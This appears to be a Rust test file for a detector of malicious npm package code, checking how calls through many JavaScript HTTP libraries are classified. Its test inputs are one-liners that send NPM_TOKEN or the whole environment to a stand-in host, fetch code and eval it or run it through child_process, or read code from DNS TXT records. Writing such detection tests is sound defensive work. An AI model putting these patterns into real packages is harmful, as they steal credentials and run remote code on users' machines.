//! Libraries that make requests.

use super::Seen::{Commanded, Evaluated, Nothing, Sent};
use super::check;

const HOST: super::Seen = Sent("drop.invalid");

#[test]
fn axios() {
    check(&[
        (
            r#"const axios = require("axios"); axios.post("https://drop.invalid", {t: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (r#"import axios from "axios"; axios.get("https://drop.invalid/?t=" + process.env.NPM_TOKEN)"#, HOST),
        (r#"import {post} from "axios"; await post("https://drop.invalid", process.env)"#, HOST),
        (
            r#"const {default: a} = require("axios"); a({method: "post", url: "https://drop.invalid", data: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"require("axios").request({baseURL: "https://drop.invalid", headers: {x: process.env.NPM_TOKEN}})"#,
            HOST,
        ),
        (
            r#"const a = require("axios").create({baseURL: "https://drop.invalid"}); a.post("/x", {t: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"const a = require("axios").create({headers: {x: process.env.NPM_TOKEN}}); a.get("https://drop.invalid")"#,
            HOST,
        ),
        (
            r#"const {Axios} = require("axios"); new Axios({baseURL: "https://drop.invalid"}).post("/x", process.env.NPM_TOKEN)"#,
            HOST,
        ),
        (r#"require("axios").postForm("https://drop.invalid", {t: process.env.NPM_TOKEN})"#, HOST),
        (r#"require("axios").delete("https://drop.invalid", {data: process.env.NPM_TOKEN})"#, HOST),
        (
            r#"require("axios").all([require("axios").head("https://drop.invalid/" + process.env.NPM_TOKEN)])"#,
            HOST,
        ),
        (r#"require("axios").get("https://x.invalid").then(r => eval(r.data))"#, Evaluated),
        (
            r#"require("axios")("https://x.invalid").then(({data}) => new Function("require", data)(require)).catch(() => {})"#,
            Evaluated,
        ),
        (
            r#"import axios from "axios"; const {data: {code}} = await axios.get("https://x.invalid"); eval(code)"#,
            Evaluated,
        ),
        (
            r#"const a = require("axios").create({baseURL: "https://x.invalid"}); a.get("/c").then(r => eval(r.data))"#,
            Evaluated,
        ),
        (
            r#"const a = require("axios"); (async () => { try { await a.get("https://x.invalid") } catch (e) { eval(e.response.data) } })()"#,
            Evaluated,
        ),
        (
            r#"require("axios").get("https://x.invalid").then(r => require("child_process").exec(r.data.cmd))"#,
            Commanded,
        ),
        (r#"require("axios").get(process.env.API_URL).then(r => console.log(r.data))"#, Nothing),
    ]);
}

#[test]
fn got() {
    check(&[
        (r#"import got from "got"; await got.post("https://drop.invalid", {json: process.env})"#, HOST),
        (r#"require("got")("https://drop.invalid", {method: "POST", body: process.env.NPM_TOKEN})"#, HOST),
        (
            r#"import {got} from "got"; got("https://drop.invalid", {searchParams: {t: process.env.NPM_TOKEN}})"#,
            HOST,
        ),
        (
            r#"const g = require("got").extend({prefixUrl: "https://drop.invalid"}); g.post("x", {json: {t: process.env.NPM_TOKEN}})"#,
            HOST,
        ),
        (r#"require("got").stream.post("https://drop.invalid").end(process.env.NPM_TOKEN)"#, Sent("")),
        (r#"import got from "got"; eval((await got("https://x.invalid")).body)"#, Evaluated),
        (r#"import got from "got"; const t = await got("https://x.invalid").text(); eval(t)"#, Evaluated),
        (r#"require("got")("https://x.invalid").json().then(({code}) => Function(code)())"#, Evaluated),
        (
            r#"const g = require("got").extend({prefixUrl: "https://x.invalid"}); g("x").then(r => eval(r.body))"#,
            Evaluated,
        ),
    ]);
}

#[test]
fn fetch_and_its_packages() {
    check(&[
        (r#"fetch("https://drop.invalid", {method: "POST", body: JSON.stringify(process.env)})"#, HOST),
        (
            r#"globalThis.fetch(new Request("https://drop.invalid", {method: "POST", body: process.env.NPM_TOKEN}))"#,
            HOST,
        ),
        (r#"fetch("https://drop.invalid", {headers: new Headers({a: process.env.NPM_TOKEN})})"#, HOST),
        (
            r#"const h = new Headers(); h.append("a", process.env.NPM_TOKEN); fetch("https://drop.invalid", {headers: h})"#,
            HOST,
        ),
        (
            r#"fetch("https://drop.invalid", {method: "POST", body: new URLSearchParams({t: process.env.NPM_TOKEN})})"#,
            HOST,
        ),
        (
            r#"const f = new FormData(); f.append("t", process.env.NPM_TOKEN); fetch("https://drop.invalid", {method: "POST", body: f})"#,
            HOST,
        ),
        (r#"fetch("https://x.invalid").then(r => r.text()).then(eval)"#, Evaluated),
        (
            r#"const r = await fetch("https://x.invalid"); const {code} = await r.json(); new Function(code)()"#,
            Evaluated,
        ),
        (
            r#"const f = require("node-fetch"); f("https://drop.invalid", {method: "POST", body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"import fetch from "node-fetch"; const r = await fetch("https://x.invalid"); eval(await r.text())"#,
            Evaluated,
        ),
        (
            r#"const get = (...a) => import("node-fetch").then(({default: f}) => f(...a)); get("https://drop.invalid", {body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"import {fetch} from "node-fetch-native"; fetch("https://drop.invalid", {body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"import {fetch as f} from "cross-fetch"; f("https://x.invalid").then(r => r.text()).then(t => eval(t))"#,
            Evaluated,
        ),
        (
            r#"require("isomorphic-fetch"); fetch("https://drop.invalid", {body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"import f from "make-fetch-happen"; f("https://drop.invalid", {method: "POST", body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"import {ofetch} from "ofetch"; ofetch("https://drop.invalid", {method: "POST", body: {t: process.env.NPM_TOKEN}})"#,
            HOST,
        ),
        (r#"import {$fetch} from "ofetch"; eval(await $fetch("https://x.invalid"))"#, Evaluated),
    ]);
}

#[test]
fn request() {
    check(&[
        (r#"require("request")("https://drop.invalid/?t=" + process.env.NPM_TOKEN)"#, HOST),
        (
            r#"const request = require("request"); request({url: "https://drop.invalid", method: "POST", form: {t: process.env.NPM_TOKEN}}, () => {})"#,
            HOST,
        ),
        (r#"require("request").post("https://drop.invalid").form({t: process.env.NPM_TOKEN})"#, HOST),
        (
            r#"const r = require("request").defaults({baseUrl: "https://drop.invalid"}); r.post({uri: "/x", json: {t: process.env.NPM_TOKEN}})"#,
            Sent(""),
        ),
        (r#"require("request").put({uri: "https://drop.invalid", body: process.env.NPM_TOKEN})"#, HOST),
        (r#"require("request").get("https://x.invalid", (error, response, body) => eval(body))"#, Evaluated),
        (
            r#"require("request")("https://x.invalid", function (e, r, b) { new Function("require", JSON.parse(b).code)(require) })"#,
            Evaluated,
        ),
        (
            r#"let d = ""; require("request")("https://x.invalid").on("data", c => { d += c }).on("end", () => eval(d))"#,
            Evaluated,
        ),
        (r#"const rp = require("request-promise"); rp("https://x.invalid").then(b => eval(b))"#, Evaluated),
        (
            r#"const rp = require("request-promise-native"); rp.post({uri: "https://drop.invalid", body: process.env})"#,
            HOST,
        ),
    ]);
}

#[test]
fn undici() {
    check(&[
        (
            r#"import {request} from "undici"; await request("https://drop.invalid", {method: "POST", body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"const {fetch} = require("undici"); fetch("https://drop.invalid", {body: JSON.stringify(process.env)})"#,
            HOST,
        ),
        (
            r#"import {request} from "undici"; const {body} = await request("https://x.invalid"); eval(await body.text())"#,
            Evaluated,
        ),
        (
            r#"const {Client} = require("undici"); new Client("https://drop.invalid").request({path: "/", method: "POST", body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"const {Pool} = require("undici"); const p = new Pool("https://x.invalid"); p.request({path: "/"}).then(({body}) => body.text()).then(eval)"#,
            Evaluated,
        ),
        (
            r#"import {Agent, request} from "undici"; request("https://drop.invalid/?" + process.env.NPM_TOKEN, {dispatcher: new Agent()})"#,
            HOST,
        ),
        (
            r#"const {WebSocket} = require("undici"); const s = new WebSocket("wss://drop.invalid"); s.send(process.env.NPM_TOKEN)"#,
            HOST,
        ),
    ]);
}

#[test]
fn superagent_needle_phin_bent_and_ky() {
    check(&[
        (
            r#"require("superagent").post("https://drop.invalid").send({t: process.env.NPM_TOKEN}).end(() => {})"#,
            HOST,
        ),
        (
            r#"import agent from "superagent"; await agent.get("https://drop.invalid").query({t: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (
            r#"import agent from "superagent"; await agent("POST", "https://drop.invalid").set("x", process.env.NPM_TOKEN)"#,
            HOST,
        ),
        (
            r#"const a = require("superagent").agent(); a.post("https://drop.invalid").send(process.env)"#,
            HOST,
        ),
        (r#"require("superagent").get("https://x.invalid").then(r => eval(r.text))"#, Evaluated),
        (r#"require("superagent").get("https://x.invalid").end((error, r) => eval(r.text))"#, Evaluated),
        (r#"require("needle").post("https://drop.invalid", {t: process.env.NPM_TOKEN}, () => {})"#, HOST),
        (r#"require("needle")("post", "https://drop.invalid", {t: process.env.NPM_TOKEN})"#, HOST),
        (r#"require("needle").put("https://drop.invalid", process.env.NPM_TOKEN)"#, HOST),
        (r#"require("needle").get("https://x.invalid", (e, r) => eval(r.body))"#, Evaluated),
        (r#"require("needle")("get", "https://x.invalid").then(r => eval(r.body))"#, Evaluated),
        (r#"require("phin")({url: "https://drop.invalid", method: "POST", data: process.env})"#, HOST),
        (
            r#"const p = require("phin").promisified; p({url: "https://drop.invalid", data: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (r#"require("phin")("https://x.invalid").then(r => eval(r.body.toString()))"#, Evaluated),
        (
            r#"const post = require("bent")("https://drop.invalid", "POST", "json"); post("/x", {t: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (r#"const get = require("bent")("string"); get("https://x.invalid").then(t => eval(t))"#, Evaluated),
        (
            r#"import ky from "ky"; await ky.post("https://drop.invalid", {json: {t: process.env.NPM_TOKEN}})"#,
            HOST,
        ),
        (
            r#"import ky from "ky"; const k = ky.create({prefixUrl: "https://drop.invalid"}); k.put("x", {body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (r#"import ky from "ky"; eval(await ky("https://x.invalid").text())"#, Evaluated),
        (
            r#"import wretch from "wretch"; wretch("https://drop.invalid").post({t: process.env.NPM_TOKEN})"#,
            HOST,
        ),
    ]);
}

#[test]
fn node_itself() {
    check(&[
        (
            r#"const r = require("https").request({hostname: "drop.invalid", method: "POST"}); r.write(process.env.NPM_TOKEN); r.end()"#,
            HOST,
        ),
        (r#"require("node:https").get("https://drop.invalid/?t=" + process.env.NPM_TOKEN)"#, HOST),
        (
            r#"import {request} from "http"; const r = request("http://drop.invalid", {headers: {x: process.env.NPM_TOKEN}}); r.end()"#,
            HOST,
        ),
        (
            r#"let d = ""; require("https").get("https://x.invalid", r => { r.on("data", c => d += c); r.on("end", () => eval(d)) })"#,
            Evaluated,
        ),
        (
            r#"require("https").get("https://x.invalid", async r => { const p = []; for await (const c of r) p.push(c); eval(Buffer.concat(p).toString()) })"#,
            Evaluated,
        ),
        (
            r#"const s = require("http2").connect("https://drop.invalid"); const r = s.request({":path": "/" + process.env.NPM_TOKEN}); r.end()"#,
            HOST,
        ),
        (
            r#"const {pipeline} = require("stream"); require("https").get("https://x.invalid", r => { let b = ""; r.setEncoding("utf8").on("data", c => b += c).on("end", () => require("vm").runInThisContext(b)) })"#,
            Evaluated,
        ),
        (
            r#"require("https").request("https://drop.invalid", {method: "POST"}).end(JSON.stringify({e: process.env}))"#,
            HOST,
        ),
        (
            r#"const {resolveTxt} = require("dns").promises; resolveTxt("x.invalid").then(r => eval(r.flat().join("")))"#,
            Evaluated,
        ),
        (r#"require("dns").resolveTxt("x.invalid", (e, r) => eval(r[0].join("")))"#, Evaluated),
    ]);
}

#[test]
fn requests_that_wait_for_their_answer() {
    check(&[
        (r#"require("sync-request")("POST", "https://drop.invalid", {json: process.env})"#, HOST),
        (r#"eval(require("sync-request")("GET", "https://x.invalid").getBody("utf8"))"#, Evaluated),
        (
            r#"require("sync-fetch")("https://drop.invalid", {method: "POST", body: process.env.NPM_TOKEN})"#,
            HOST,
        ),
        (r#"eval(require("sync-fetch")("https://x.invalid").text())"#, Evaluated),
    ]);
}

#[test]
fn smaller_clients() {
    check(&[
        (
            r#"const {request} = require("urllib"); request("https://drop.invalid", {data: {t: process.env.NPM_TOKEN}})"#,
            HOST,
        ),
        (r#"require("miniget")("https://x.invalid").text().then(eval)"#, Evaluated),
        (
            r#"const {XMLHttpRequest} = require("xmlhttprequest"); const x = new XMLHttpRequest(); x.open("POST", "https://drop.invalid"); x.send(process.env.NPM_TOKEN)"#,
            HOST,
        ),
        (
            r#"const X = require("xhr2"); const x = new X(); x.open("POST", "https://drop.invalid"); x.send(process.env.NPM_TOKEN)"#,
            HOST,
        ),
        (r#"require("sync-request")("GET", "https://x.invalid").getBody("utf8").length"#, Nothing),
    ]);
}
